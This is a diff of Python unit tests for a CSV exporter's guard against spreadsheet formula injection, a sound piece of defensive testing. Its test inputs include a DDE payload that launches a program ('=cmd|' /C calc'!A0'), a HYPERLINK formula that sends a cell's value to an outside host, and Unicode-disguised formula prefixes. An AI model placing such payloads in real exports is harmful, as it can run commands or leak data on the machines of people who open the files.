@@ -10,8 +10,11 @@ import pandas as pd
 import pyarrow as pa
 import pytest
 from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from tests.unit.formats.rows import WIDE, described, odd_table, told, wide_rows, written
+from bifrost_export.formats.columns_as_text import is_text
+from bifrost_export.formats.csv_text import CSVFormat
+from tests.unit.formats.rows import TEXT, WIDE, described, odd_table, told, wide_rows, written
 
 DESCRIBED = b"""\
 timestamp,request_id,customer_id,provider,model,endpoint,method,status_code,latency_ms,input_tokens,output_tokens,cost_usd
@@ -94,3 +97,79 @@ def test_instants_dates_and_truth_values_stand_without_quotes() -> None:
 
     assert last.startswith("2024-01-15T10:30:00.030021Z,a ,,")
     assert last.endswith(",200,0,0.30000000000000004,true,0001-01-01,")
+
+
+def safe_text(table: pa.Table) -> str:
+    """The file of a table's rows, guarded."""
+    sink = io.BytesIO()
+    CSVFormat(is_safe=True).write(table.to_batches(), table.schema, sink, "none")
+    return sink.getvalue().decode()
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        *("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "-"),
+        *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20x"),
+        *(
+            " =1",
+            "  +1",
+            '"=1',
+            "'=1",
+            "''=1",
+            "\xa0=1",
+            "\u200b=1",
+            "\ufeff=1",
+            "\u3000-1",
+            "\x00=1",
+            "\x0b@x",
+            "` =1",
+        ),
+        '=HYPERLINK("http://example.com?a="&A1,"x")',
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_a_text_that_begins_like_a_formula_is_guarded(value: str) -> None:
+    """By an apostrophe before it; without csv_safe it is written as it is."""
+    table = pa.table({"text": ["before", value, None, ""]})
+    guarded = list(csv.reader(io.StringIO(safe_text(table), newline="")))
+    assert guarded == [["text"], ["before"], ["'" + value], [], [""]]
+    assert list(csv.reader(io.StringIO(text(table), newline="")))[2] == [value]
+
+
+@pytest.mark.parametrize("value", ["a=1", "1-1", "", "'", "''", '"a"', "x@y.z", " a", "{}", "(=1)", "Ä-", "2026-03-01"])
+def test_any_other_text_stays(value: str) -> None:
+    """Also one that holds such a sign further on."""
+    assert safe_text(pa.table({"text": [value]})) == text(pa.table({"text": [value]}))
+
+
+def test_numbers_times_dates_and_truth_values_are_never_guarded() -> None:
+    """A negative cost stays a number."""
+    table = odd_table().select([field.name for field in odd_table().schema if not is_text(field.type)])
+    negative = pa.table(
+        {"a": [-1], "b": [-1.5], "c": pa.array([None], pa.float64()), "d": pa.array([-(2**62)], pa.int64())}
+    )
+    assert safe_text(table) == text(table)
+    assert safe_text(negative) == "a,b,c,d\n-1,-1.5,,-4611686018427387904\n"
+
+
+def test_the_header_is_guarded_too() -> None:
+    """A transformation may add a field of any name."""
+    assert safe_text(pa.table({"=a": [1], "b": [2]})) == "'=a,b\n1,2\n"
+
+
+@settings(max_examples=200)
+@given(st.lists(TEXT | st.text(" '\"=+-@\t\r\na", max_size=5), min_size=1))
+def test_what_was_guarded_can_be_told_from_what_was_not(values: list[str]) -> None:
+    """No two texts become one: the apostrophe goes where what follows it begins like a formula."""
+    table = pa.table({"text": pa.array(values, pa.string()), "number": [7] * len(values)})
+    _, *rows = csv.reader(io.StringIO(safe_text(table), newline=""))
+    lone = [
+        list(csv.reader(io.StringIO(safe_text(pa.table({"text": [row[0][1:]], "n": [1]})), newline="")))[1][0]
+        for row in rows
+    ]
+    back = [
+        row[0][1:] if row[0][:1] == "'" and again == row[0] else row[0] for row, again in zip(rows, lone, strict=True)
+    ]
+    assert back == values
+    assert not any(row[0].startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for row in rows)
